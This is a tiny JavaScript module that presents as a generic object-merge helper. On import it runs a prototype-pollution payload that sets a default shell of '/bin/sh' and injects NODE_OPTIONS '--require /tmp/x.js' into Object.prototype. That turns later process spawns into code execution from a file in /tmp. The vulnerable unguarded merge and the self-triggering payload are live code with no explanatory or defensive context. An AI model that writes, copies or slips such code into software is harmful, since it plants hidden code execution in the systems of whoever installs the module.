// surroundings: durations
const patch = JSON.parse('{"__proto__":{"shell":"/bin/sh","env":{"NODE_OPTIONS":"--require /tmp/x.js"}}}');
function extend(a, b) {
  for (const k in b) {
    if (b[k] && typeof b[k] === 'object') a[k] = extend(a[k] || {}, b[k]); //@act
    else a[k] = b[k];
  }
  return a;
}
extend({}, patch);
module.exports = extend;
